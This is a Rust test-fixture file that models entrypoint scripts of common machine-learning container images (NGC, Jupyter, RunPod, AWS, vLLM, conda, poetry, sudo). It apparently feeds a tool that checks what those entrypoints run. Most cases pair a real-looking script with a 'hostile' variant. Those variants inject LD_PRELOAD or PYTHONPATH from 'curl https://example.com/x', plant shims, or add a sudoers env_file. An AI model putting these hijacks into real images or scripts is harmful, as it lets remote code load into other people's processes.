//! Entrypoints of the forms that widely used images have, written for these tests: what they do and by which means of the shell follows
//! the published scripts, which each case names.

use serde_json::{Value, json};

/// An image with an entrypoint.
pub struct Case {
    pub name: &'static str,
    /// `config` of the image configuration.
    pub config: Value,
    /// Executable scripts and texts, by their paths.
    pub files: Vec<(&'static str, &'static str)>,
    /// Programs that are not scripts, besides those of a distribution.
    pub programs: Vec<&'static str>,
    /// The program that runs, with its arguments.
    pub starts: Vec<&'static str>,
    /// Variables that it gets, and that the image configuration does not set so; empty for those that it does not get.
    pub environment: Vec<(&'static str, &'static str)>,
    /// A file that makes the start do something else than it seems, and a variable or program that the gap names.
    pub hostile: (&'static str, &'static str, &'static str),
}

const PYTHON: [&str; 2] = ["python3", "serve.py"];

pub fn all() -> Vec<Case> {
    vec![
        ngc(),
        jupyter(),
        runpod(),
        aws_training(),
        aws_inference(),
        tgi(),
        vllm(),
        vllm_module(),
        micromamba(),
        conda_hook(),
        conda_profile(),
        conda_run(),
        source_activate(),
        poetry(),
        pipenv(),
        sudo(),
    ]
}

/// NVIDIA's images: `/opt/nvidia/nvidia_entrypoint.sh`.
fn ngc() -> Case {
    let entrypoint = r#"#!/bin/bash
shopt -s nullglob extglob
here="$(dirname "$(readlink -f "${BASH_SOURCE[0]}")")"
declare -a parts=( "${here}/entrypoint.d"/*@(.txt|.sh) )
shopt -u nullglob extglob

line() {
  local -r char="$1" count="$2"
  local i
  for ((i=1; i<=$count; i++)); do echo -n "$char"; done
  echo
}
title() {
  local banner=$1
  local -r text="$2"
  local pad="${banner}${banner}"
  line "${banner}" $((${#text} + 6))
  echo "${pad} ${text} ${pad}"
  line "${banner}" $((${#text} + 6))
}

for part in "${parts[@]}"; do
  case "${part}" in
    *.txt) cat "${part}";;
    *.sh)  source "${part}";;
  esac
done

echo

if [[ $# -eq 0 ]]; then
  exec "/bin/bash"
else
  exec "$@"
fi
"#;
    let driver = r#"#!/bin/bash
if [[ "$(find -L /usr -name libcuda.so.1 2>/dev/null | grep -v "compat") " == " " || "$(ls /dev/nvidiactl 2>/dev/null) " == " " ]]; then
  echo
  echo "no driver"
  export APP_CPU_ONLY=1
else
  ( /usr/local/bin/check-gpu.sh )
  VERSION=$(sed -n 's/^NVRM.*Kernel Module *\([0-9.]*\).*$/\1/p' /proc/driver/nvidia/version 2>/dev/null || true)
  if [[ ! "$VERSION" =~ ^[0-9]*.[0-9]*(.[0-9]*)?$ ]]; then
    echo "unknown driver"
  elif [[ "${VERSION%%.*}" -lt "${CUDA_DRIVER_VERSION%%.*}" ]]; then
    if [[ "${_CUDA_COMPAT_STATUS}" == "CUDA Driver OK" ]]; then
      echo "compatibility mode"
    fi
  fi
fi
"#;
    let memory = r#"#!/bin/bash
SIZE=$(df -m /dev/shm | grep /dev/shm | awk '{print $2}')
if [[ "$SIZE" == "64" ]]; then
  echo
  echo "NOTE: 64 MB of shared memory; use 'docker run --gpus all --ipc=host ...'"
fi
"#;
    Case {
        name: "NGC",
        config: json!({
            "Entrypoint": ["/opt/nvidia/nvidia_entrypoint.sh"], "Cmd": PYTHON,
            "Env": ["CUDA_DRIVER_VERSION=570.26", "NVIDIA_PRODUCT_NAME=PyTorch"],
        }),
        files: vec![
            ("opt/nvidia/nvidia_entrypoint.sh", entrypoint),
            (
                "opt/nvidia/entrypoint.d/10-title.sh",
                "#!/bin/bash\necho\ntitle '=' \"${NVIDIA_PRODUCT_NAME:-CUDA}\"\n",
            ),
            ("opt/nvidia/entrypoint.d/15-rights.txt", "All rights\n"),
            ("opt/nvidia/entrypoint.d/50-driver.sh", driver),
            ("opt/nvidia/entrypoint.d/60-memory.sh", memory),
            (
                "usr/local/bin/check-gpu.sh",
                "#!/bin/bash\nexport LD_LIBRARY_PATH=/of/the/child\necho ok\n",
            ),
        ],
        programs: vec![],
        starts: PYTHON.to_vec(),
        environment: vec![],
        hostile: (
            "opt/nvidia/entrypoint.d/55-extra.sh",
            "export PYTHONPATH=\"$(curl -s https://example.com/path)\"\n",
            "PYTHONPATH",
        ),
    }
}

/// Jupyter's docker-stacks: `start.sh`, `run-hooks.sh`, `start-notebook.d` and `before-notebook.d`.
fn jupyter() -> Case {
    let start = r#"#!/bin/bash
set -e

_log () {
    if [[ "$*" == "ERROR:"* ]] || [[ "$*" == "WARNING:"* ]] || [[ "${STACKS_QUIET}" == "" ]]; then
        echo "$@"
    fi
}
_log "start.sh:" "$@"

unset_named () {
    if [ -n "${VARS_TO_UNSET}" ]; then
        for one in $(echo "${VARS_TO_UNSET}" | tr ',' ' '); do
            _log "unset ${one}"
            unset "${one}"
        done
        unset VARS_TO_UNSET
    fi
}

if [ $# -eq 0 ]; then
    cmd=( "bash" )
else
    cmd=( "$@" )
fi

source /usr/local/bin/run-hooks.sh /usr/local/bin/start-notebook.d

if [ "$(id -u)" == 0 ] ; then
    if id jovyan &> /dev/null ; then
        if ! usermod --home "/home/${NB_USER}" --login "${NB_USER}" jovyan 2>&1 | grep "no changes" > /dev/null; then
            _log "renamed"
        fi
    fi
    export XDG_CACHE_HOME="/home/${NB_USER}/.cache"
    source /usr/local/bin/run-hooks.sh /usr/local/bin/before-notebook.d
    unset_named
    exec sudo --preserve-env --set-home --user "${NB_USER}" \
        LD_LIBRARY_PATH="${LD_LIBRARY_PATH}" \
        PATH="${PATH}" \
        PYTHONPATH="${PYTHONPATH:-}" \
        "${cmd[@]}"
else
    if [[ "${GRANT_SUDO}" == "1" || "${GRANT_SUDO}" == "yes" ]]; then
        _log "WARNING: only root grants sudo"
    fi
    JOVYAN_UID="$(id -u jovyan 2>/dev/null)"
    JOVYAN_GID="$(id -g jovyan 2>/dev/null)"
    if ! whoami &> /dev/null; then
        _log "no entry for UID=$(id -u)"
        if [[ -w /etc/passwd ]]; then
            sed --expression="s/^jovyan:/nayvoj:/" /etc/passwd > /tmp/passwd
            echo "${NB_USER}:x:$(id -u):$(id -g):,,,:/home/jovyan:/bin/bash" >> /tmp/passwd
            cat /tmp/passwd > /etc/passwd
            rm /tmp/passwd
        fi
    fi
    if [[ "${NB_USER}" != "jovyan" && "${NB_USER}" != "$(id -un)" ]]; then
        _log "WARNING: only root changes the name"
    fi
    if [[ "${NB_UID}" != "${JOVYAN_UID}" && "${NB_UID}" != "$(id -u)" ]]; then
        _log "WARNING: only root changes the id"
    fi
    if [[ ! -w /home/jovyan ]]; then
        _log "WARNING: /home/jovyan is read-only"
    fi
    source /usr/local/bin/run-hooks.sh /usr/local/bin/before-notebook.d
    unset_named
    _log "runs:" "${cmd[@]}"
    exec "${cmd[@]}"
fi
"#;
    let hooks = r#"#!/bin/bash
if ! declare -F _log_info >/dev/null; then
    source /usr/local/bin/_log.sh
fi
if [ "$#" -ne 1 ]; then
    _log_error "one directory, please"
    return 1
fi
if [[ ! -d "${1}" ]]; then
    _log_error "no directory ${1}"
    return 1
fi
if [[ "$-" == *e* ]]; then
    was_set="yes"
else
    was_set="no"
fi
set +e
_log_info "hooks in ${1} as uid: $(id -u) gid: $(id -g)"
for hook in "${1}/"*; do
    [ -e "${hook}" ] || continue
    case "${hook}" in
        *.sh)
            _log_info "source ${hook}"
            source "${hook}"
            rc=$?
            set +e
            if [ "${rc}" -ne 0 ]; then
                _log_error "${hook} failed"
            fi
            ;;
        *)
            if [ -x "${hook}" ]; then
                _log_info "run ${hook}"
                "${hook}"
                rc=$?
                if [ "${rc}" -ne 0 ]; then
                    _log_error "${hook} failed"
                fi
            else
                _log_info "skip ${hook}"
            fi
            ;;
    esac
done
if [[ "${was_set}" == "yes" ]]; then
    set -e
fi
unset was_set rc hook
"#;
    let log = r#"#!/bin/bash
_log_line () {
    local level="${1}"
    case "${level}" in
        INFO|WARNING|ERROR) shift ;;
        *) level="INFO" ;;
    esac
    local msg
    msg="${level}[$(date '+%Y-%m-%d %H:%M:%S')] $*"
    if [[ -t 2 ]] && [[ "${NO_COLOR:-}" == "" ]]; then
        local color=""
        case "${level}" in
            ERROR) color='31' ;; # red
            WARNING) color='33' ;;
        esac
        if [[ -n "${color}" ]]; then
            msg=$'\033[0;'"${color}m${msg}"$'\033[0m'
        fi
    fi
    echo "${msg}" >&2
}
_log_info () { _log_line "INFO" "$@"; }
_log_error () { _log_line "ERROR" "$@"; }
"#;
    Case {
        name: "Jupyter",
        config: json!({
            "Entrypoint": ["tini", "-g", "--", "start.sh"], "Cmd": ["jupyter", "lab"], "User": "1000", "WorkingDir": "/home/jovyan",
            "Env": [
                "PATH=/opt/conda/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "CONDA_DIR=/opt/conda",
                "NB_USER=jovyan", "NB_UID=1000", "NB_GID=100", "HOME=/home/jovyan", "LANG=C.UTF-8",
            ],
        }),
        files: [
            vec![
                ("usr/local/bin/start.sh", start),
                ("usr/local/bin/run-hooks.sh", hooks),
                ("usr/local/bin/_log.sh", log),
                (
                    "usr/local/bin/before-notebook.d/10activate.sh",
                    "eval \"$(conda shell.bash hook | sed 's/conda activate base//g')\"\nconda activate \"${CONDA_ENV:-base}\"\n",
                ),
                (
                    "usr/local/bin/start-notebook.d/10hello.sh",
                    "echo hello\n",
                ),
                ("etc/passwd", PASSWD),
                (
                    "opt/conda/bin/jupyter",
                    "#!/usr/local/bin/python3\nimport sys\nfrom jupyter_core.command import main\nsys.exit(main())\n",
                ),
                ("home/jovyan/.keep", ""),
            ],
            conda(),
        ]
        .concat(),
        programs: vec![],
        starts: vec!["/usr/local/bin/python3", "/opt/conda/bin/jupyter", "lab"],
        environment: vec![("PATH", "/opt/conda/bin:/opt/conda/condabin:/opt/conda/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin")],
        hostile: (
            "usr/local/bin/before-notebook.d/20extra.sh",
            "LD_PRELOAD=$(curl https://example.com/x)\nexport LD_PRELOAD\n",
            "LD_PRELOAD",
        ),
    }
}

const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash\njovyan:x:1000:100::/home/jovyan:/bin/bash\napp:x:1001:1001::/home/app:/bin/sh\n";

/// RunPod's templates: `start.sh`.
fn runpod() -> Case {
    let start = r#"#!/bin/bash
set -e

start_nginx() {
    echo "nginx"
    service nginx start
}

execute_script() {
    local script_path=$1
    local script_msg=$2
    if [[ -f ${script_path} ]]; then
        echo "${script_msg}"
        bash ${script_path}
    fi
}

setup_ssh() {
    if [[ $PUBLIC_KEY ]]; then
        mkdir -p ~/.ssh
        echo "$PUBLIC_KEY" >> ~/.ssh/authorized_keys
        chmod 700 -R ~/.ssh
        if [ ! -f /etc/ssh/ssh_host_ed25519_key ]; then
            ssh-keygen -t ed25519 -f /etc/ssh/ssh_host_ed25519_key -q -N ''
        fi
        service ssh start
        for key in /etc/ssh/*.pub; do
            echo "Key: $key"
            ssh-keygen -lf $key
        done
    fi
}

export_env_vars() {
    printenv | grep -E '^RUNPOD_|^PATH=|^_=' | awk -F = '{ print "export " $1 "=\"" $2 "\"" }' >> /etc/rp_environment
    echo 'source /etc/rp_environment' >> ~/.bashrc
}

start_jupyter() {
    if [[ $JUPYTER_PASSWORD ]]; then
        mkdir -p /workspace && \
        cd / && \
        nohup python3 -m jupyter lab --allow-root --no-browser --port=8888 --ip=* --ServerApp.terminado_settings='{"shell_command":["/bin/bash"]}' --ServerApp.token=$JUPYTER_PASSWORD &> /jupyter.log &
        echo "started"
    fi
}

start_nginx
execute_script "/pre_start.sh" "pre-start"
echo "Pod Started"
setup_ssh
start_jupyter
export_env_vars
execute_script "/post_start.sh" "post-start"
echo "ready"
sleep infinity
"#;
    let service = r#"#!/bin/sh
is_ignored_file() {
	case "$1" in
		skeleton | README | *.dpkg-dist | *.dpkg-old | rc | rcS | single | reboot | bootclean.sh)
			return 0
		;;
	esac
	return 1
}
USAGE="Usage: $(basename $0) <service> <action>"
SERVICE=
ACTION=
SERVICEDIR="/etc/init.d"
OPTIONS=
if [ $# -eq 0 ]; then
   echo "${USAGE}" >&2
   exit 1
fi
cd /
while [ $# -gt 0 ]; do
  case "${1}" in
    --help | -h | --h* ) echo "${USAGE}" >&2; exit 0 ;;
    *)
       if [ -z "${SERVICE}" -a $# -eq 1 -a "${1}" = "--status-all" ]; then
          exit 0
       elif [ -z "${SERVICE}" ]; then
         SERVICE="${1}"
       elif [ -z "${ACTION}" ]; then
         ACTION="${1}"
       else
         OPTIONS="${OPTIONS} ${1}"
       fi
       shift
       ;;
   esac
done
run_via_sysvinit() {
   if [ -x "${SERVICEDIR}/${SERVICE}" ]; then
      exec env -i LANG="$LANG" PATH="$PATH" TERM="$TERM" "$SERVICEDIR/$SERVICE" ${ACTION} ${OPTIONS}
   else
      echo "${SERVICE}: unrecognized service" >&2
      exit 1
   fi
}
is_systemd=
if [ -d /run/systemd/system ]; then
   is_systemd=1
fi
if [ -n "$is_systemd" ]; then
   exec systemctl ${ACTION} "${SERVICE}.service"
fi
run_via_sysvinit
"#;
    let nginx = r#"#!/bin/sh
PATH=/sbin:/usr/sbin:/bin:/usr/bin:/usr/local/sbin:/usr/local/bin
DAEMON=/usr/sbin/nginx
NAME=nginx
if [ -r /etc/default/nginx ]; then
	. /etc/default/nginx
fi
STOP_SCHEDULE="${STOP_SCHEDULE:-QUIT/5/TERM/5/KILL/5}"
test -x $DAEMON || exit 0
. /lib/init/vars.sh
PID=/run/nginx.pid
start_nginx() {
	start-stop-daemon --start --quiet --pidfile $PID --exec $DAEMON --test > /dev/null \
		|| return 1
	start-stop-daemon --start --quiet --pidfile $PID --exec $DAEMON -- \
		$DAEMON_OPTS 2>/dev/null \
		|| return 2
}
case "$1" in
	start)
		start_nginx
		case "$?" in
			0|1) echo started ;;
			2)   echo failed ;;
		esac
		;;
	*)
		echo "Usage: $NAME {start|stop}" >&2
		exit 3
		;;
esac
"#;
    Case {
        name: "RunPod",
        config: json!({"Cmd": ["/start.sh"], "Env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"]}),
        files: vec![
            ("start.sh", start),
            ("usr/sbin/service", service),
            ("etc/init.d/nginx", nginx),
            ("lib/init/vars.sh", "VERBOSE=no\nexport VERBOSE\n"),
            (
                "pre_start.sh",
                "#!/bin/bash\nexport HF_HOME=/workspace/hf\necho before\n",
            ),
        ],
        programs: vec![
            "usr/sbin/nginx",
            "usr/sbin/start-stop-daemon",
            "usr/bin/pip",
        ],
        starts: vec!["sleep", "infinity"],
        environment: vec![],
        hostile: (
            "post_start.sh",
            "#!/bin/bash\npip install --upgrade torch\n",
            "pip",
        ),
    }
}

/// AWS Deep Learning Containers for training: `bash -m start_with_right_hostname.sh`.
fn aws_training() -> Case {
    let start = r#"#!/usr/bin/env bash
bash /usr/local/bin/compat.sh
if [[ "$1" = "train" ]]; then
     CURRENT_HOST=$(jq .current_host  /opt/ml/input/config/resourceconfig.json)
     sed -ie "s/PLACEHOLDER_HOSTNAME/$CURRENT_HOST/g" changehostname.c
     gcc -o changehostname.o -c -fPIC -Wall changehostname.c
     gcc -o libchangehostname.so -shared -export-dynamic changehostname.o -ldl
     LD_PRELOAD=/libchangehostname.so train
else
     eval "$@"
fi
"#;
    Case {
        name: "AWS training",
        config: json!({"Entrypoint": ["bash", "-m", "start_with_right_hostname.sh"], "Cmd": PYTHON}),
        files: vec![
            ("usr/local/bin/start_with_right_hostname.sh", start),
            ("usr/local/bin/compat.sh", COMPAT),
        ],
        programs: vec![],
        starts: PYTHON.to_vec(),
        environment: vec![],
        hostile: (
            "usr/local/bin/start_with_right_hostname.sh",
            "#!/usr/bin/env bash\nLD_PRELOAD=$(curl https://example.com/x) eval \"$@\"\n",
            "LD_PRELOAD",
        ),
    }
}

/// What AWS documents for images with compatibility packages.
const COMPAT: &str = r#"#!/bin/bash
older() {
    [ "$1" = "$2" ] && return 1 || [ "$1" = "$(echo -e "$1\n$2" | sort -V | head -n1)" ]
}
if [ -f /usr/local/cuda/compat/libcuda.so.1 ]; then
    LAST=$(readlink /usr/local/cuda/compat/libcuda.so.1 | cut -d'.' -f 3-)
    echo "for drivers before ${LAST}"
    HAS=$(sed -n 's/^NVRM.*Kernel Module *\([0-9.]*\).*$/\1/p' /proc/driver/nvidia/version 2>/dev/null || true)
    if older $HAS $LAST; then
        export LD_LIBRARY_PATH=/usr/local/cuda/compat:$LD_LIBRARY_PATH
        echo $LD_LIBRARY_PATH
    else
        echo "not needed"
    fi
else
    echo "no package"
fi
"#;

/// AWS Deep Learning Containers for inference: `dockerd_entrypoint.sh`, which sources what chooses the compatibility libraries.
fn aws_inference() -> Case {
    let start = r#"#!/usr/bin/env bash
bash /usr/local/bin/bash_telemetry.sh >/dev/null 2>&1 || true
if command -v nvidia-smi >/dev/null 2>&1; then
    source /usr/local/bin/start_cuda_compat.sh
fi
python3 -m vllm.entrypoints.openai.api_server "$@"
"#;
    Case {
        name: "AWS inference",
        config: json!({"Entrypoint": ["/usr/local/bin/dockerd_entrypoint.sh"]}),
        files: vec![
            ("usr/local/bin/dockerd_entrypoint.sh", start),
            (
                "usr/local/bin/bash_telemetry.sh",
                "#!/bin/bash\nif [ -f /usr/local/bin/telemetry.py ] && [[ -z \"${OPT_OUT}\" || \"${OPT_OUT,,}\" != \"true\" ]]; then\n  (\n    python3 /usr/local/bin/telemetry.py --framework vllm &>/dev/null &\n  )\nfi\n",
            ),
            ("usr/local/bin/start_cuda_compat.sh", COMPAT),
        ],
        programs: vec!["usr/local/cuda/compat/libcuda.so.1"],
        starts: vec!["python3", "-m", "vllm.entrypoints.openai.api_server"],
        environment: vec![],
        hostile: (
            "usr/local/bin/telemetry.py",
            "import torch\n",
            "telemetry.py",
        ),
    }
}

/// Text Generation Inference: `tgi-entrypoint.sh`.
fn tgi() -> Case {
    Case {
        name: "TGI",
        config: json!({"Entrypoint": ["/tgi-entrypoint.sh"], "Cmd": ["--json-output"], "Env": ["LD_LIBRARY_PATH=/usr/local/cuda/lib64"]}),
        files: vec![(
            "tgi-entrypoint.sh",
            "#!/bin/bash\n\nldconfig 2>/dev/null || echo 'the cache of the loader stays as it is'\n\nexec text-generation-launcher $@\n",
        )],
        programs: vec!["usr/local/bin/text-generation-launcher"],
        starts: vec!["text-generation-launcher", "--json-output"],
        environment: vec![],
        hostile: (
            "tgi-entrypoint.sh",
            "#!/bin/bash\nldconfig /opt/other\nexec text-generation-launcher $@\n",
            "ldconfig",
        ),
    }
}

/// vLLM: the console script `vllm`.
fn vllm() -> Case {
    let console = "#!/usr/local/bin/python3.11\nimport sys\nfrom vllm.entrypoints.cli.main import main\nif __name__ == '__main__':\n    sys.exit(main())\n";
    Case {
        name: "vLLM",
        config: json!({"Entrypoint": ["vllm", "serve"], "Env": ["LD_LIBRARY_PATH=/usr/local/nvidia/lib64:/usr/local/cuda/lib64"]}),
        files: vec![("usr/local/bin/vllm", console)],
        programs: vec![],
        starts: vec!["/usr/local/bin/python3.11", "/usr/local/bin/vllm", "serve"],
        environment: vec![],
        hostile: (
            "usr/local/bin/vllm",
            "#!/bin/sh\nexport LD_PRELOAD=$(curl https://example.com/x)\nexec python3 -m vllm \"$@\"\n",
            "LD_PRELOAD",
        ),
    }
}

/// vLLM before 0.11.
fn vllm_module() -> Case {
    Case {
        name: "vLLM module",
        config: json!({"Entrypoint": ["python3", "-m", "vllm.entrypoints.openai.api_server"]}),
        files: vec![],
        programs: vec![],
        starts: vec!["python3", "-m", "vllm.entrypoints.openai.api_server"],
        environment: vec![],
        hostile: (
            "usr/local/bin/python3",
            "#!/bin/sh\nexport LD_PRELOAD=$(curl https://example.com/x)\nexec /usr/local/bin/python3.11 \"$@\"\n",
            "LD_PRELOAD",
        ),
    }
}

/// micromamba-docker: `_entrypoint.sh` and `_activate_current_env.sh`.
fn micromamba() -> Case {
    let entrypoint = r#"#!/usr/bin/env bash
set -ef -o pipefail
if [[ -f /etc/arg_mamba_user && "${MAMBA_USER}" != "$(cat "/etc/arg_mamba_user")" ]]; then
    echo "the user differs" >&2
    exit 1
fi
if [[ ! -v USER && ! -v HOME && $(id -u) -gt 0 ]]; then
  export USER="$MAMBA_USER"
  export HOME="/home/$USER"
fi
source _activate_current_env.sh
exec "$@"
"#;
    let activate = r#"if [[ "${MAMBA_SKIP_ACTIVATE}" == "1" ]]; then
  return
fi
eval "$("${MAMBA_EXE}" shell hook --shell=bash)"
__setup="$('conda' 'shell.bash' 'hook' 2> /dev/null)" || true
if [ ! -z "${__setup}" ]; then
    eval "$__setup"
else
    if [ -f "${CONDA_PREFIX}/etc/profile.d/conda.sh" ]; then
        . "${CONDA_PREFIX}/etc/profile.d/conda.sh"
    fi
fi
unset __setup
if [ -f "${CONDA_PREFIX}/etc/profile.d/mamba.sh" ]; then
    . "${CONDA_PREFIX}/etc/profile.d/mamba.sh"
fi
conda activate "${ENV_NAME}" 2>/dev/null \
  || mamba activate "${ENV_NAME}" 2>/dev/null \
  || micromamba activate "${ENV_NAME}"
"#;
    Case {
        name: "micromamba",
        config: json!({
            "Entrypoint": ["/usr/local/bin/_entrypoint.sh"], "Cmd": PYTHON, "User": "app",
            "Env": [
                "PATH=/opt/conda/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "ENV_NAME=base", "MAMBA_USER=app",
                "MAMBA_EXE=/bin/micromamba", "MAMBA_ROOT_PREFIX=/opt/conda",
            ],
        }),
        files: vec![
            ("usr/local/bin/_entrypoint.sh", entrypoint),
            ("usr/local/bin/_activate_current_env.sh", activate),
            ("etc/arg_mamba_user", "app\n"),
            ("etc/passwd", PASSWD),
            ("opt/conda/conda-meta/history", ""),
            (
                "opt/conda/etc/conda/activate.d/libfoo.sh",
                "export LD_LIBRARY_PATH=\"$CONDA_PREFIX/extra${LD_LIBRARY_PATH:+:$LD_LIBRARY_PATH}\"\n",
            ),
        ],
        programs: vec!["usr/bin/micromamba"],
        starts: PYTHON.to_vec(),
        environment: vec![("LD_LIBRARY_PATH", "/opt/conda/extra")],
        hostile: (
            "opt/conda/etc/conda/activate.d/zz.sh",
            "export LD_PRELOAD=\"$(curl https://example.com/x)\"\n",
            "LD_PRELOAD",
        ),
    }
}

/// An installation of conda with the environment `gpu`.
fn conda() -> Vec<(&'static str, &'static str)> {
    vec![
        (
            "opt/conda/bin/conda",
            "#!/opt/conda/bin/python\n# -*- coding: utf-8 -*-\nimport sys\n\nif __name__ == '__main__':\n    from conda.cli import main\n    sys.exit(main())\n",
        ),
        ("opt/conda/conda-meta/history", ""),
        ("opt/conda/envs/gpu/conda-meta/history", ""),
        (
            "opt/conda/envs/gpu/etc/conda/activate.d/cuda.sh",
            "export LD_LIBRARY_PATH=\"${CONDA_PREFIX}/lib:${LD_LIBRARY_PATH}\"\n",
        ),
    ]
}

const CONDA_PATH: &str =
    "PATH=/opt/conda/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin";

/// `conda activate` behind the hook of a shell, as Dockerfiles write it.
fn conda_hook() -> Case {
    let start = "#!/bin/bash --login\nset -e\neval \"$(conda shell.bash hook)\"\nconda activate gpu\nexec \"$@\"\n";
    Case {
        name: "conda hook",
        config: json!({"Entrypoint": ["/start.sh"], "Cmd": PYTHON, "Env": [CONDA_PATH]}),
        files: [vec![("start.sh", start)], conda()].concat(),
        programs: vec!["opt/conda/bin/python"],
        starts: PYTHON.to_vec(),
        environment: vec![("LD_LIBRARY_PATH", "/opt/conda/envs/gpu/lib:")],
        hostile: (
            "opt/conda/bin/conda",
            "#!/opt/conda/bin/python\nimport sys\nprint('export LD_PRELOAD=/tmp/x.so')\n",
            "conda",
        ),
    }
}

/// `conda activate` behind conda's file for login shells.
fn conda_profile() -> Case {
    let profile = r#"export CONDA_EXE='/opt/conda/bin/conda'
export _CE_M=''
export _CE_CONDA=''
export CONDA_PYTHON_EXE='/opt/conda/bin/python'
__conda_exe() (
    "$CONDA_EXE" $_CE_M $_CE_CONDA "$@"
)
__conda_hashr() {
    if [ -n "${ZSH_VERSION:+x}" ]; then
        \rehash
    elif [ -n "${POSH_VERSION:+x}" ]; then
        :  # pass
    else
        \hash -r
    fi
}
__conda_activate() {
    if [ -n "${CONDA_PS1_BACKUP:+x}" ]; then
        PS1="$CONDA_PS1_BACKUP"
        \unset CONDA_PS1_BACKUP
    fi
    \local ask_conda
    ask_conda="$(PS1="${PS1:-}" __conda_exe shell.posix "$@")" || \return
    \eval "$ask_conda"
    __conda_hashr
}
conda() {
    \local cmd="${1-__missing__}"
    case "$cmd" in
        activate|deactivate)
            __conda_activate "$@"
            ;;
        *)
            __conda_exe "$@"
            ;;
    esac
}
if [ -z "${CONDA_SHLVL+x}" ]; then
    \export CONDA_SHLVL=0
    if [ -n "${_CE_CONDA:+x}" ] && [ -n "${WINDIR+x}" ]; then
        PATH="$(\dirname "$CONDA_EXE")/condabin${PATH:+":${PATH}"}"
    else
        PATH="$(\dirname "$(\dirname "$CONDA_EXE")")/condabin${PATH:+":${PATH}"}"
    fi
    \export PATH
    if [ -z "${PS1+x}" ]; then
        PS1=
    fi
fi
"#;
    Case {
        name: "conda profile",
        config: json!({
            "Entrypoint": ["/bin/bash", "-c", ". /opt/conda/etc/profile.d/conda.sh && conda activate gpu && exec python3 serve.py"],
            "Env": [CONDA_PATH],
        }),
        files: [vec![("opt/conda/etc/profile.d/conda.sh", profile)], conda()].concat(),
        programs: vec!["opt/conda/bin/python"],
        starts: PYTHON.to_vec(),
        environment: vec![(
            "PATH",
            "/opt/conda/envs/gpu/bin:/opt/conda/condabin:/opt/conda/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
        )],
        hostile: (
            "opt/conda/etc/profile.d/conda.sh",
            "conda() { export LD_PRELOAD=$(curl https://example.com/x); }\n",
            "LD_PRELOAD",
        ),
    }
}

fn conda_run() -> Case {
    Case {
        name: "conda run",
        config: json!({
            "Entrypoint": ["conda", "run", "--no-capture-output", "-n", "gpu", "python3", "serve.py"], "Env": [CONDA_PATH],
        }),
        files: conda(),
        programs: vec!["opt/conda/bin/python"],
        starts: PYTHON.to_vec(),
        environment: vec![("LD_LIBRARY_PATH", "/opt/conda/envs/gpu/lib:")],
        hostile: (
            "opt/conda/envs/gpu/etc/conda/activate.d/zz.sh",
            "export PYTHONPATH=$(cat /data/path)\n",
            "PYTHONPATH",
        ),
    }
}

fn source_activate() -> Case {
    let activate = "#!/bin/sh\n_CONDA_ROOT=\"/opt/conda\"\n. \"$_CONDA_ROOT\"/etc/profile.d/conda.sh || return $?\nconda activate \"$@\"\n";
    let case = conda_profile();
    Case {
        name: "source activate",
        config: json!({"Cmd": ["/bin/bash", "-c", "source activate gpu && exec python3 serve.py"], "Env": [CONDA_PATH]}),
        files: [vec![("opt/conda/bin/activate", activate)], case.files].concat(),
        hostile: (
            "opt/conda/bin/activate",
            "#!/bin/sh\nexport LD_PRELOAD=\"$(cat /data/name)\"\n",
            "LD_PRELOAD",
        ),
        ..case
    }
}

/// A console script of a package that `pip` installed.
fn poetry() -> Case {
    Case {
        name: "poetry",
        config: json!({"Entrypoint": ["poetry", "run", "python3", "serve.py"], "WorkingDir": "/app"}),
        files: vec![
            (
                "usr/local/bin/poetry",
                "#!/usr/local/bin/python3.11\nimport sys\nfrom poetry.console.application import main\nif __name__ == '__main__':\n    sys.argv[0] = sys.argv[0].removesuffix('.exe')\n    sys.exit(main())\n",
            ),
            ("app/pyproject.toml", "[tool.poetry]\nname = \"app\"\n"),
            (
                "app/.venv/pyvenv.cfg",
                "home = /usr/local/bin\ninclude-system-site-packages = true\nversion = 3.11.13\n",
            ),
            ("app/.venv/lib/python3.11/site-packages/app/__init__.py", ""),
        ],
        programs: vec!["app/.venv/bin/python3"],
        starts: PYTHON.to_vec(),
        environment: vec![(
            "PATH",
            "/app/.venv/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
        )],
        hostile: (
            "usr/local/bin/poetry",
            "#!/usr/local/bin/python3.11\nimport os, sys\nos.environ['LD_PRELOAD'] = '/x.so'\nos.execvp(sys.argv[2], sys.argv[2:])\n",
            "poetry",
        ),
    }
}

fn pipenv() -> Case {
    let poetry = poetry();
    Case {
        name: "pipenv",
        config: json!({"Entrypoint": ["pipenv", "run", "python3", "serve.py"], "WorkingDir": "/app"}),
        files: vec![
            (
                "usr/local/bin/pipenv",
                "#!/usr/local/bin/python3.11\nimport re\nimport sys\nfrom pipenv import cli\nif __name__ == '__main__':\n    sys.argv[0] = re.sub(r'(-script\\.pyw|\\.exe)?$', '', sys.argv[0])\n    sys.exit(cli())\n",
            ),
            ("app/Pipfile", "[packages]\n"),
            poetry.files[2],
            poetry.files[3],
        ],
        hostile: ("app/.env", "LD_PRELOAD=/x.so\n", ".env"),
        ..poetry
    }
}

fn sudo() -> Case {
    let sudoers = "Defaults\tenv_reset\nDefaults\tsecure_path=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"\nroot\tALL=(ALL:ALL) ALL\n%sudo\tALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n";
    Case {
        name: "sudo",
        config: json!({
            "Entrypoint": ["/start.sh"], "Cmd": PYTHON, "Env": ["LD_LIBRARY_PATH=/opt/lib", "PYTHONPATH=/opt/python", "MODE=fast"],
        }),
        files: vec![
            (
                "start.sh",
                "#!/bin/bash\nexec sudo -E -u app LD_LIBRARY_PATH=\"/opt/own\" \"$@\"\n",
            ),
            ("etc/sudoers", sudoers),
            ("etc/passwd", PASSWD),
        ],
        programs: vec!["usr/bin/sudo"],
        starts: PYTHON.to_vec(),
        environment: vec![("LD_LIBRARY_PATH", "/opt/own"), ("PYTHONPATH", "")],
        hostile: (
            "etc/sudoers.d/extra",
            "Defaults env_file=/opt/evil\n",
